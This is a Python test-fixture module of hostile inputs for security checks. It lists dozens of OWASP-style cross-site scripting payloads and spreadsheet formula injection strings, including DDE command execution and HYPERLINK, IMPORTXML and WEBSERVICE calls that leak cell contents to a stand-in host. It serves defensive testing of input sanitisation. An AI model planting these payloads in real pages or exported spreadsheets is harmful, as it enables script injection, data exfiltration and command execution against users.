"""Hostile text for the security checks: cross-site scripting and spreadsheet formula injection.

The XSS payloads follow the OWASP XSS Filter Evasion Cheat Sheet (script tags, event handlers,
``javascript:`` URLs in every casing and encoding, SVG, attribute and element breakouts,
malformed and nested tags, comment and CDATA tricks, mutation XSS) plus Markdown link, image,
autolink and reference injection, Streamlit's Markdown directives, and Unicode look-alikes.
The formula payloads follow the OWASP CSV Injection page: cells starting with ``=``, ``+``,
``-``, ``@``, tab or carriage return, ``HYPERLINK`` / ``IMPORTXML`` exfiltration and DDE.

Each payload is text a user could type into a title, a claim, a rationale, a citation, a
decision note, a section heading or a display name; a few hold a tab, a carriage return or a
blank line on purpose.
"""

from __future__ import annotations

XSS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-src": '<SCRIPT SRC="https://xss.example/x.js"></SCRIPT>',
    "script-malformed": '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-javascript": "<IMG SRC=\"javascript:alert('XSS');\">",
    "img-mixed-case": "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "img-entities": (
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
        "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"
    ),
    "img-hex-entities": "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>",
    "href-tab-in-scheme": '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "href-javascript": '<a href="javascript:alert(document.cookie)">click me</a>',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-slash": "<svg/onload=alert('XSS')>",
    "body-onload": "<BODY ONLOAD=alert('XSS')>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "object-data": '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "style-import": "<style>@import 'javascript:alert(1)';</style>",
    "style-attribute": '<div style="background:url(javascript:alert(1))">x</div>',
    "attr-break-double": '"><script>alert(1)</script>',
    "attr-break-single": "'><img src=x onerror=alert(1)>",
    "attr-handler-double": '" onfocus="alert(1)" autofocus="',
    "attr-handler-single": "' onmouseover='alert(1)",
    "title-breakout": "</title><script>alert(1)</script>",
    "textarea-breakout": "</textarea><script>alert(1)</script>",
    "comment-breakout": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "cdata": "]]><script>alert(1)</script><![CDATA[",
    "mxss-math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "bare-javascript-url": "javascript:alert(1)",
    "data-url": "data:text/html,<script>alert(1)</script>",
    "escaped-entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "md-link": "[click here](javascript:alert(1))",
    "md-image": '![x](https://xss.example/x.png"onerror="alert(1))',
    "md-autolink": "<javascript:alert(1)>",
    "md-reference": "[x]\n\n[x]: javascript:alert(1)",
    "md-html-block": "<details open ontoggle=alert(1)>",
    "md-emphasis-heading": "# **bold** _em_ `code` | table |",
    "streamlit-directives": ":red[alarm] :material/warning: :orange-background[**x**]",
    "template": "{{constructor.constructor('alert(1)')()}}",
    "fullwidth-tags": "＜script＞alert(1)＜/script＞",
    "zero-width": "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "rtl-override": "\u202egnp.exe<script>alert(1)</script>",
    "long-s": "<ſcript>alert(1)</ſcript>",
}

FORMULA: dict[str, str] = {
    "equals": "=1+1",
    "hyperlink": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "dde-cmd": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "importxml": '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
    "dde-function": '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "webservice": '=WEBSERVICE("https://evil.example/"&A1)',
}

PAYLOADS: dict[str, str] = {
    **{f"xss:{k}": v for k, v in XSS.items()},
    **{f"formula:{k}": v for k, v in FORMULA.items()},
}

# What a spreadsheet treats as the start of a formula (OWASP CSV Injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
